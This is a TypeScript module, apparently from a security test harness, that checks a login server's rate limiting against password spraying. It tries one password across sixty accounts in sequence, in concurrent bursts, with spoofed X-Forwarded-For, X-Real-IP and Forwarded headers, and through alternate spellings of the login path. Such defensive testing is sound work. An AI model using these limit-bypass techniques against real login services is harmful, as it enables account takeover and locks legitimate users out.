import type { Settings } from '../../../servers/settings.ts';
import type { Reply } from '../../exchange.ts';
import type { Attack, Judgement } from '../../kinds/attack.ts';
import { spelledPastLimit } from '../../kit/clients/limited-login.ts';
import type { Stage } from '../../stage.ts';

/** One password for each of many accounts. */
type Spray = { readonly how: string; readonly tried: number; readonly compared: number; readonly ms: number };

type Seen = {
  /** In order; the first that is not stopped is the last. */
  readonly sprays: readonly Spray[];
  /** Another spelling of the login's path by which the limited source signed in; null where there is none. */
  readonly pastLimit: string | null;
  /** Whether the victim, at the same address, could log in after the time that the answer named. */
  readonly backIn: boolean;
};

const accounts = 60;

export default {
  kind: 'attack',
  id: 'credential-stuffing',
  title: 'One password for many accounts',
  question: 'How many accounts can be tried from one address, each so seldom that its own limit never shows?',
  goal: 'Find the accounts for which a leaked or a common password is good.',
  precondition: 'none',
  severity: 'high',
  references: ['CWE-307', 'CWE-348', 'CWE-178', 'ASVS 6.3.1', 'WSTG-ATHN-03', 'RFC 6585 §4'],
  steps: [
    `A wrong password is tried once for each of ${accounts} accounts, known and unknown, one after another.`,
    'By other spellings of the path of the login, the right password of an account is tried.',
    'In the next window the same is released at once.',
    'In a third one they are released at once again, and each claims another address in X-Forwarded-For, X-Real-IP and Forwarded.',
    'After the time that Retry-After names, somebody at the same address logs in with the right password.',
  ],
  fix: 'Limit failed logins of each address too, counted before the password is compared, at every spelling of the path. Believe forwarded addresses of your own proxies alone.',
  controls: ['logins-unlimited', 'logins-counted-by-account', 'source-address-believed', 'paths-compared-as-text'],
  needs: { settings: { loginFailures: 5, loginFailuresPerSource: 15, loginWindowMs: 3_000 } },
  appliesTo: () => true,
  expected: () => 'blocked',

  async attempt(stage) {
    const { settings } = stage.target;
    const sprays: Spray[] = [];
    for (const [how, spray] of Object.entries(ways)) {
      if (sprays.length > 0) await stage.wait(settings.loginWindowMs);
      const start = performance.now();
      const replies = await spray(stage);
      const compared = replies.filter(({ status }) => status === 401).length;
      const seen = { how, tried: replies.length, compared, ms: Math.round(performance.now() - start) };
      sprays.push(seen);
      if (compared > mostOf(seen, settings)) return { sprays, pastLimit: null, backIn: false };
      if (sprays.length > 1) continue;
      const pastLimit = await spelledPastLimit(stage, stage.victim);
      if (pastLimit === undefined) continue;
      // the address is limited still, and whoever logs in next comes from it
      await stage.wait(settings.loginWindowMs);
      return { sprays, pastLimit, backIn: false };
    }
    const { username, password } = stage.victim;
    const { headers } = await stage.perform('login', { values: { username, password } });
    await stage.wait(1_000 * Number(headers['retry-after'] ?? 0));
    const backIn = (await stage.perform('login', { values: { username, password } })).subject === stage.victim.id;
    return { sprays, pastLimit: null, backIn };
  },

  judge({ sprays, pastLimit, backIn }, { settings }): Judgement {
    const counts = {
      tries: sprays.reduce((sum, { tried }) => sum + tried, 0),
      successes: sprays.reduce((sum, { compared }) => sum + compared, 0),
    };
    const unstopped = sprays.find((spray) => spray.compared > mostOf(spray, settings));
    if (unstopped)
      return {
        ...counts,
        outcome: 'succeeded',
        because: `a password was compared for ${unstopped.compared} of ${unstopped.tried} accounts ${unstopped.how}, where at most ${mostOf(unstopped, settings)} should have been`,
      };
    if (pastLimit !== null)
      return { ...counts, outcome: 'succeeded', because: `${pastLimit} took a password from a limited address` };
    if (!backIn)
      return { ...counts, outcome: 'succeeded', because: 'somebody at the same address was kept out for good' };
    if (sprays.some(({ compared }) => compared === 0))
      return { ...counts, outcome: 'inconclusive', because: 'no password was compared at all' };
    const shown = sprays.map(({ how, tried, compared }) => `${compared} of ${tried} ${how}`);
    return { ...counts, outcome: 'blocked', because: `a password was compared for ${shown.join(', ')}` };
  },
} satisfies Attack<Seen>;

const ways: Readonly<Record<string, (stage: Stage) => Promise<Reply[]>>> = {
  'one after another': oneByOne,
  'at once': (stage) => released(stage, () => ({})),
  'from claimed addresses': (stage) => released(stage, claims),
};

/** How many passwords may have been compared: a fixed window that ends meanwhile begins anew. */
function mostOf({ ms }: Spray, { loginFailuresPerSource, loginWindowMs }: Settings): number {
  return loginFailuresPerSource * (Math.floor(ms / loginWindowMs) + 2);
}

function tryFor(stage: Stage, n: number, headers: Readonly<Record<string, string>>) {
  // Every tenth account is a real one.
  const username = n % 10 === 0 ? stage.user(n % 3).username : `customer-${n}`;
  const request = stage.request('login', { values: { username, password: 'Summer of 2026!!' } });
  return { ...request, headers: { ...request.headers, ...headers } };
}

async function oneByOne(stage: Stage): Promise<Reply[]> {
  const replies: Reply[] = [];
  for (let n = 0; n < accounts; n += 1) replies.push(await stage.send(tryFor(stage, n, {})));
  return replies;
}

function released(stage: Stage, headers: (n: number) => Readonly<Record<string, string>>): Promise<Reply[]> {
  return stage.race(Array.from({ length: accounts }, (_, n) => ({ request: tryFor(stage, n, headers(n)) })));
}

/** RFC 5737 addresses: nobody has them. */
function claims(n: number): Record<string, string> {
  const address = `203.0.113.${n + 1}`;
  return { 'x-forwarded-for': address, 'x-real-ip': address, forwarded: `for=${address}` };
}
